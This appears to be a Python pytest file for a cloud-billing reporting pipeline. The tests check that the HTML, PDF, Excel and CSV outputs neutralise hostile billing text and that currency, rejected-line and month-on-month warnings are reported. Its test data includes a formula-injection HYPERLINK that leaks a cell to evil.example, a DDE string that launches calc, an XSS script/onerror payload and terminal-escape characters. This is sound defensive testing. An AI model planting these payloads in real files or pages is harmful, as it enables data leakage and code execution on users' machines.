"""The monthly HTML report in headless Chromium and the Excel pack in LibreOffice."""

from __future__ import annotations

import gzip
import re
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from pypdf import PdfReader

from roi import pipeline, warehouse
from roi.cli.output import format_frame
from roi.config import ProjectConfig, ReportConfig, load_project
from roi.config.reports import ReportOptions
from roi.context import Context
from roi.reporting.data import Totals, open_report
from tests.services import chromium_run, libreoffice_convert

pytestmark = pytest.mark.service


def _cents(value: object) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


def _source_total(config: ProjectConfig, month: str) -> Decimal:
    total = pipeline.query(
        Context.for_warehouse(config.warehouse_path),
        f"SELECT sum(effective_cost) FROM cost_lines WHERE billing_period_start = '{month}'",
    ).item()
    return Decimal(total)


def _inject(project_dir: Path, rows: list[dict[str, str]]) -> None:
    """Add an untagged chunk with hostile text to the October AWS delivery."""
    month = project_dir / "sample_data/billing/aws/focus-export/data/BILLING_PERIOD=2026-10"
    delivery = next(month.iterdir())
    template = gzip.decompress((delivery / "focus-export-00001.csv.gz").read_bytes()).decode()
    header, first = template.splitlines()[:2]
    names = header.split(",")
    import csv
    import io

    values = next(csv.reader(io.StringIO(first)))
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(names)
    for row in rows:
        line = dict(zip(names, values, strict=True))
        line.update(row)
        writer.writerow([line[n] for n in names])
    (delivery / "focus-export-00003.csv.gz").write_bytes(gzip.compress(out.getvalue().encode()))


HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE_HTML = '<script>document.title="pwned"</script><img src=x onerror="alert(1)">'


@pytest.mark.slow
def test_untrusted_billing_text_is_never_executed(project_dir: Path, tmp_path: Path) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": HOSTILE_FORMULA,
                "ServiceName": "+cmd|' /C calc'!A0",
                "Tags": "",
                "EffectiveCost": "9000",
                "BilledCost": "9000",
            },
            {
                "ResourceId": "arn:aws:ec2:us-east-1:210987654321:instance/i-0hostile",
                "ServiceName": HOSTILE_HTML,
                "Tags": "",
                "EffectiveCost": "8000",
                "BilledCost": "8000",
            },
            {
                "ResourceId": "+1+1",
                "ServiceName": "@SUM(A1)",
                "Tags": "",
                "EffectiveCost": "700",
                "BilledCost": "700",
            },
        ],
    )
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    outputs = {p.suffix: p for p in pipeline.report(Context(config), None, tmp_path / "out")}
    html, xlsx = outputs[".html"], outputs[".xlsx"]

    text = html.read_text()
    assert HOSTILE_HTML not in text and "&lt;script&gt;" in text
    dom = chromium_run(html, tmp_path, "--dump-dom").stdout
    title = re.search(r"<title>(.*?)</title>", dom, re.S)
    assert title is not None, "the rendered page has a <title>"
    assert "pwned" not in title.group(1)
    assert '<img src="x"' not in dom

    recalculated = openpyxl.load_workbook(
        libreoffice_convert(xlsx, "xlsx", tmp_path / "lo"), data_only=True
    )
    cells = [c.value for row in recalculated["Unallocated"].iter_rows() for c in row]
    assert HOSTILE_FORMULA in cells  # kept as the text it is, not evaluated to "Click for details"
    assert "+cmd|' /C calc'!A0" in cells and "+1+1" in cells and "@SUM(A1)" in cells
    assert "Click for details" not in cells and 2 not in cells
    raw = openpyxl.load_workbook(xlsx)
    assert all(c.data_type != "f" for c in raw["Unallocated"]["C"] if isinstance(c.value, str))


@pytest.mark.slow
def test_other_currencies_are_reported_apart_and_control_characters_survive(
    project_dir: Path, tmp_path: Path
) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": "arn:aws:ec2:us-east-1:210987654321:instance/i-0vt\x0bab",
                "Tags": "",
                "EffectiveCost": "700",
                "BilledCost": "700",
            },
            {
                "ResourceId": "eu-contract-1",
                "Tags": "",
                "BillingCurrency": "EUR",
                "EffectiveCost": "1234.5",
                "BilledCost": "1234.5",
            },
        ],
    )
    config = load_project(project_dir)
    pipeline.run(Context(config), out_dir=tmp_path / "out")
    figures = _totals(config)
    assert figures.attributed == figures.source_total  # reconciled within USD
    assert figures.other_currencies.rows() == [
        ("EUR", 1, Decimal("1234.5000000000"), Decimal("1234.5000000000"))
    ]
    html = (tmp_path / "out/monthly_finance_2026-10.html").read_text()
    assert "also billed in other currencies, not included and not converted to USD: " in html
    assert "1,234.50 EUR (1 lines)" in html
    assert "All checks passed" not in html
    pack = openpyxl.load_workbook(tmp_path / "out/executive_pack_2026-10.xlsx")
    assert _summary_warnings(pack)[0][0].startswith("Warning: also billed in other currencies")
    ids = [c.value for c in pack["Unallocated"]["C"]]
    assert "arn:aws:ec2:us-east-1:210987654321:instance/i-0vt\ufffdab" in ids


def _totals(config: ProjectConfig, change_warning: float | None = None) -> Totals:
    """The month's totals and checks as a report reads them."""
    options = (
        ReportOptions() if change_warning is None else ReportOptions(change_warning=change_warning)
    )
    report = ReportConfig("t", "monthly_finance", "t", Path("t.toml"), options)
    with warehouse.open_warehouse(config.warehouse_path, read_only=True) as con:
        return open_report(con, config, report, None).totals


def _warnings(config: ProjectConfig) -> list[str]:
    return [c.message for c in _totals(config).checks]


def _summary_warnings(pack: openpyxl.Workbook) -> list[tuple[str, object]]:
    """The Summary sheet's warning lines (text, and the amount beside it on Lineage)."""
    found = [
        (str(c.value), None)
        for row in pack["Summary"].iter_rows()
        for c in row[:1]
        if isinstance(c.value, str) and c.value.startswith("Warning")
    ]
    amounts = [
        (str(row[0].value), row[1].value)
        for row in pack["Lineage"].iter_rows()
        if isinstance(row[0].value, str) and row[0].value.startswith("Warning")
    ]
    return [
        (text, amounts[i][1] if i < len(amounts) else None) for i, (text, _) in enumerate(found)
    ]


@pytest.mark.slow
def test_skipped_rejects_show_as_a_warning_with_their_amount(
    project_dir: Path, tmp_path: Path
) -> None:
    _inject(
        project_dir,
        [
            {
                "ResourceId": "bad-date",
                "Tags": "",
                "EffectiveCost": "250.50",
                "BilledCost": "250.50",
                "ChargePeriodStart": "2026-10-32T00:00:00Z",
            },
            {"ResourceId": "bad-amount", "Tags": "", "EffectiveCost": "12,5", "BilledCost": "1"},
        ],
    )
    connector = project_dir / "connectors/aws_focus.toml"
    connector.write_text(connector.read_text() + 'on_reject = "skip"\n')
    config = load_project(project_dir)
    pipeline.run(Context(config), out_dir=tmp_path / "out")
    [warning] = _warnings(config)
    # The line with a readable amount counts 250.50; the other's amount is unreadable.
    assert warning.startswith(
        "2 billing line(s) were rejected and are in no figure: 250.50 USD plus 1 line(s) whose "
        "amount could not be read (fields charge_period_start, effective_cost; "
    )
    html = (tmp_path / "out/monthly_finance_2026-10.html").read_text()
    assert "1 warning(s)" in html and "250.50 USD" in html and "All checks passed" not in html
    pack = openpyxl.load_workbook(tmp_path / "out/executive_pack_2026-10.xlsx")
    [(text, amount)] = _summary_warnings(pack)
    assert text.startswith("Warning: 2 billing line(s)") and amount == 250.5
    # Fixing the file and loading it again clears the warning.
    _inject(
        project_dir, [{"ResourceId": "fixed", "Tags": "", "EffectiveCost": "1", "BilledCost": "1"}]
    )
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    assert _warnings(config) == []


@pytest.mark.slow
def test_a_currency_with_no_data_is_a_warning_not_zero_tiles(project_dir: Path) -> None:
    roi_toml = project_dir / "roi.toml"
    roi_toml.write_text(roi_toml.read_text().replace('currency = "USD"', 'currency = "EUR"'))
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    [warning] = _warnings(config)
    assert warning.startswith(
        "no cost lines are billed in EUR this month, so every figure is 0; the bills are in "
        "other currencies: "
    )
    assert "USD" in warning and "set [project] currency" in warning


@pytest.mark.slow
def test_a_large_month_on_month_change_is_a_warning(project_dir: Path) -> None:
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    october, september = (_source_total(config, m) for m in ("2026-10-01", "2026-09-01"))
    change = (october - september) / september
    assert abs(change) > Decimal("0.01")
    figures, quiet = _totals(config, 0.01), _totals(config, 0.5)
    [check] = figures.checks
    assert check.kind == "change" and check.amount == october - september
    assert f"{float(change):+.1%} against September 2026" in check.message
    assert quiet.checks == []


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_hostile_text_and_long_ids_are_shown_safely_in_every_output(
    project_dir: Path, tmp_path: Path
) -> None:
    """Audit: ESC, BEL and U+202E reached the HTML and CLI tables; a 40,000-character
    ResourceId held the PDF for over 11 minutes; CSV carried formulas unquoted."""
    long_id = "arn:aws:s3:::bucket/" + "x" * 40_000 + "/TAIL"
    hostile = "evil\x1b[2J\x07\u202egnp.exe"
    _inject(
        project_dir,
        [
            {"ResourceId": long_id, "Tags": "", "EffectiveCost": "600", "BilledCost": "600"},
            {"ResourceId": hostile, "Tags": "", "EffectiveCost": "500", "BilledCost": "500"},
            {"ResourceId": "=HYPERLINK(1)", "Tags": "", "EffectiveCost": "4", "BilledCost": "4"},
        ],
    )
    config = load_project(project_dir)
    pipeline.load(Context(config))
    pipeline.attribute(Context(config))
    outputs = {p.suffix: p for p in pipeline.report(Context(config), None, tmp_path / "out")}
    text = outputs[".html"].read_text()
    for char in ("\x1b", "\x07", "\u202e"):
        assert char not in text
    assert "evil␛[2J␇&lt;U+202E&gt;gnp.exe" in text
    assert long_id not in text and "x" * 5_000 not in text
    assert re.search(r"arn:aws:s3:::bucket/x+…x+/TAIL", text)
    pdf = outputs[".html"].with_suffix(".pdf")
    # (pypdf reads the monospace id font's text with NULs between the characters)
    pdf_text = "".join(p.extract_text() for p in PdfReader(pdf).pages).replace("\x00", "")
    assert "/TAIL" in pdf_text and "\u202e" not in pdf_text and "x" * 5_000 not in pdf_text

    ids = pipeline.query(
        Context.for_warehouse(config.warehouse_path),
        "SELECT resource_id FROM unallocated_costs WHERE resource_id LIKE 'evil%' "
        "OR resource_id LIKE '=%' OR length(resource_id) > 40000 ORDER BY 1",
    )
    assert sorted(ids["resource_id"].to_list()) == sorted([long_id, hostile, "=HYPERLINK(1)"])
    table = format_frame(ids, "table")
    assert not set(table) & {"\x1b", "\x07", "\u202e", "\r"} and len(table) < 1_000
    csv_text = format_frame(ids, "csv")
    assert "\n'=HYPERLINK(1)\n" in csv_text + "\n" and long_id in csv_text
